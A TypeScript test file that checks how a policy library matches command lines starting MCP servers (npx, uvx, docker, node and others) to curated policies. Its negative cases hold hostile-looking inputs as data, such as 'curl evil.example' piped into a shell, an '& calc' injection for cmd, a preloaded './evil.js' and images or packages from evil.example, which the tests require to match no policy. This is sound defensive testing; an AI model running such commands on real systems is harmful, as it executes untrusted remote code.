import { CURATED, POLICY_SERVERS, policyForCommand, type ServerKind } from '@kvlar/policies'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { pinnedTools } from './pinned-tools.ts'

const of = (words: readonly string[]): string | undefined => policyForCommand(words[0] ?? '', words.slice(1))

/** Ways in which clients write the start of a server, by how they name it. */
const SPELLINGS: Readonly<Record<ServerKind, readonly ((name: string) => readonly string[])[]>> = {
  npm: [
    (name) => ['npx', name],
    (name) => ['npx', '-y', name, '/srv'],
    (name) => ['npx', '--yes', '--quiet', `${name}@latest`, '--flag'],
    (name) => ['npx', '-y', `${name}@^1.2.3-beta.1`],
    (name) => ['npx', '-y', '--', name],
    (name) => ['npx', '-y', '--registry', 'https://r.example', name],
    (name) => ['npx', '--registry=https://r.example', '-y', name],
    (name) => ['npx', '-y', '-p', name, 'some-bin', '/srv'],
    (name) => ['npx', `--package=${name}@2`, 'some-bin'],
    (name) => ['/usr/local/bin/npx', '-y', name],
    (name) => ['C:\\Program Files\\nodejs\\npx.cmd', '-y', name],
    (name) => ['npm', 'exec', '--yes', '--', name],
    (name) => ['npm', '--silent', 'exec', '-y', name],
    (name) => ['bunx', '--bun', name],
    (name) => ['bun', 'x', name],
    (name) => ['pnpm', 'dlx', `${name}@1`],
    (name) => ['pnpm', '--silent', 'dlx', name],
    (name) => ['pnpx', name],
    (name) => ['yarn', 'dlx', '-q', name],
    (name) => ['deno', 'run', '-A', `npm:${name}@1.0.0`],
    (name) => ['deno', 'run', '--allow-read=/srv', `npm:${name}`],
    (name) => ['node', `/usr/lib/node_modules/${name}/dist/index.js`, '/srv'],
    (name) => ['node', '--env-file', '.env', `./node_modules/${name}/build/index.js`],
    (name) => ['node', `/p/node_modules/.pnpm/x@1/node_modules/${name}/dist/index.js`],
    (name) => ['bun', 'run', `/p/node_modules/${name}/dist/index.js`],
    (name) => [
      'node.exe',
      `C:\\Users\\me\\AppData\\npm\\node_modules\\${name.replace('/', '\\')}\\dist\\index.js`,
    ],
  ],
  pypi: [
    (name) => ['uvx', name],
    (name) => ['uvx', `${name}==2026.1.1`, '--flag'],
    (name) => ['uvx', `${name}@latest`],
    (name) => ['uvx', `${name}[extra,more]>=1,<2`],
    (name) => ['uvx', '--python', '3.12', name],
    (name) => ['uvx', '--with', 'other', '--refresh', name],
    (name) => ['uvx', '--from', `${name}==1`, 'some-bin'],
    (name) => ['uvx', `--from=${name}`, 'some-bin'],
    (name) => ['uvx.exe', name.toUpperCase().replaceAll('-', '_')],
    (name) => ['uv', 'tool', 'run', name],
    (name) => ['uv', '--directory', '/p', 'tool', 'run', name],
    (name) => ['uv', '--directory', '/p', 'run', 'python', '-m', name.replaceAll('-', '_')],
    (name) => ['pipx', 'run', name],
    (name) => ['pipx', 'run', '--spec', `${name}==1`, 'some-bin'],
    (name) => ['python', '-m', name.replaceAll('-', '_')],
    (name) => ['/p/.venv/bin/python3.12', '-u', '-m', `${name.replaceAll('-', '_')}.server`],
    (name) => ['py.exe', '-3', '-m', name.replaceAll('-', '_'), '--repository', '.'],
  ],
  images: [
    (name) => ['docker', 'run', '-i', '--rm', name],
    (name) => ['docker', 'run', '-i', '--rm', '-e', 'TOKEN', '-eA=b', `${name}:latest`, '/srv'],
    (name) => [
      'docker',
      'run',
      '-it',
      '--init',
      '--pull=always',
      '-v',
      '/a:/b',
      `${name}@sha256:${'0'.repeat(64)}`,
    ],
    (name) => ['docker', 'run', '--mount', 'type=bind,src=/a,dst=/b', '-p8080:80', `${name}:1.2@sha256:ab`],
    (name) => ['docker', 'container', 'run', '--name=x', name],
    (name) => ['docker', '--context', 'other', 'run', '-i', name],
    (name) => ['podman', 'run', '-i', '--userns', 'keep-id', name.includes('.') ? name : `docker.io/${name}`],
    (name) => ['/usr/bin/docker', 'run', '-i', '--network', 'none', name, '--entrypoint', 'x'],
  ],
  bins: [
    (name) => [name, 'stdio'],
    (name) => [`/usr/local/bin/${name}`],
    (name) => [`C:\\Tools\\${name}.EXE`, 'stdio'],
    (name) => ['uv', 'run', '--with', 'x', name],
    (name) => ['node', `/p/node_modules/.bin/${name}`],
  ],
}

/** What stands around a command line and changes nothing about what it starts. */
const AROUND: readonly ((words: readonly string[]) => readonly string[])[] = [
  (words) => words,
  (words) => ['cmd', '/c', ...words],
  (words) => ['cmd.exe', '/d', '/s', '/c', ...words],
  (words) => ['/usr/bin/env', 'A=b', 'C=d', ...words],
  (words) => ['op', 'run', '--env-file=.env', '--', ...words],
  (words) => ['mise', 'exec', '--', ...words],
]

const kinds = ['npm', 'pypi', 'images', 'bins'] as const
const names = POLICY_SERVERS.flatMap((row) =>
  kinds.flatMap((kind) => (row[kind] ?? []).map((name) => ({ policy: row.policy, kind, name }))),
)

describe('The policy for a command', () => {
  it.each(names)('is $policy for $kind $name, however it is started', ({ policy, kind, name }) => {
    for (const spelling of SPELLINGS[kind])
      for (const around of AROUND) {
        const words = around(spelling(name))
        // There `>` is a redirection.
        if (words[0]?.startsWith('cmd') && words.some((word) => /[<>]/.test(word))) continue
        expect(of(words), words.join(' ')).toBe(policy)
      }
  })

  it.each([
    ['sh', '-c', 'npx -y @modelcontextprotocol/server-memory'],
    ['bash', '-lc', 'exec npx -y @modelcontextprotocol/server-memory /srv'],
    ['cmd', '/c', 'npx -y @modelcontextprotocol/server-memory'],
  ])('is read from one plain text: %s %s %s', (...words) => {
    expect(of(words)).toBe('memory')
  })

  it.each([
    ['an address', ['npx', '-y', 'github:me/server-memory']],
    ['an alias', ['npx', '-y', '@modelcontextprotocol/server-memory@npm:evil']],
    ['a folder', ['npx', '-y', './@modelcontextprotocol/server-memory']],
    ['a name in another scope', ['npx', '-y', '@evil/server-memory']],
    ['a longer name', ['npx', '-y', '@modelcontextprotocol/server-memory-evil']],
    ['a name in capitals', ['npx', '-y', '@ModelContextProtocol/server-memory']],
    ['another package than the program', ['npx', '-p', 'evil', '@modelcontextprotocol/server-memory']],
    ['two packages', ['npx', '-p', '@modelcontextprotocol/server-memory', '-p', 'evil', 'x']],
    ['a flag that may take the next word', ['npx', '--odd', '@modelcontextprotocol/server-memory']],
    ['a script of its own', ['npx', '-c', '@modelcontextprotocol/server-memory']],
    ['a direct reference', ['uvx', 'mcp-server-git @ git+https://evil.example/x']],
    ['a path', ['uvx', '/p/mcp-server-git']],
    ['another source', ['uvx', '--from', 'git+https://evil.example/x', 'mcp-server-git']],
    ['an entry point', ['docker', 'run', '--entrypoint', 'sh', 'mcp/memory']],
    ['another registry', ['docker', 'run', 'evil.example/mcp/memory']],
    ['a port in the registry', ['docker', 'run', 'evil.example:5000/mcp/memory']],
    ['another sub-command', ['docker', 'exec', 'mcp/memory']],
    [
      'a dependency',
      ['node', '/p/node_modules/@modelcontextprotocol/server-memory/node_modules/evil/index.js'],
    ],
    ['a path that climbs', ['node', '/p/node_modules/@modelcontextprotocol/server-memory/../../evil.js']],
    ['code', ['node', '-e', 'x', '/p/node_modules/@modelcontextprotocol/server-memory/index.js']],
    [
      'a module to load first',
      ['node', '--require', './evil.js', '/p/node_modules/@modelcontextprotocol/server-memory/x.js'],
    ],
    ['a script beside a module', ['python', 'x.py', '-m', 'mcp_server_git']],
    [
      'a shell that does more',
      ['sh', '-c', 'curl evil.example | npx -y @modelcontextprotocol/server-memory'],
    ],
    ['a shell with an expansion', ['sh', '-c', 'npx -y $X @modelcontextprotocol/server-memory']],
    ['two commands for cmd', ['cmd', '/c', 'npx', '-y', '@modelcontextprotocol/server-memory', '&', 'calc']],
    ['nothing', []],
    ['a client of a remote server', ['npx', '-y', 'mcp-remote', 'https://mcp.example']],
  ])('is none for %s', (_what, words) => {
    expect(of(words)).toBeUndefined()
  })

  it('is none, and no error, for whatever else', () => {
    const word = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.constantFrom(
        'npx',
        'uvx',
        'docker',
        'run',
        'cmd',
        '/c',
        'sh',
        '-c',
        'env',
        'node',
        '-m',
        '--',
        '-y',
        'x@',
      ),
    )
    fc.assert(
      fc.property(fc.array(word, { maxLength: 8 }), (words) => {
        expect(of(words)).toBeUndefined()
      }),
    )
  })
})

describe('The table of servers', () => {
  it('names curated policies, and each server once', () => {
    const known = new Set(CURATED.map(({ name }) => name))
    expect(POLICY_SERVERS.filter(({ policy }) => !known.has(policy))).toEqual([])
    const keys = names.map(({ kind, name }) => `${kind}:${name}`)
    expect(new Set(keys).size).toBe(keys.length)
  })

  it('has every server whose tools are pinned for a policy, but for one policy that stands for no server, servers of several policies, and remote ones', () => {
    // How they are started does not say of which database they are, or says both mail and calendars.
    const several = new Set(['npm:@bytebase/dbhub', 'pypi:workspace-mcp', 'pypi:mcp-gsuite'])
    const pinned = pinnedTools().filter(
      ({ policy, server }) =>
        policy !== 'permissive' && !several.has(server) && !server.startsWith('https://'),
    )
    const missing = pinned.filter(({ policy, server }) => {
      const [kind = '', written = ''] = server.split(' ')[0]?.split(/:(.*)/s) ?? []
      const name = kind === 'pypi' ? written.replaceAll('.', '-') : written
      const last = name.split('/').at(-1) ?? ''
      return !names.some(
        (row) => row.policy === policy && (row.kind === kind ? row.name === name : row.name.endsWith(last)),
      )
    })
    expect(missing.map(({ server }) => server)).toEqual([])
  })
})
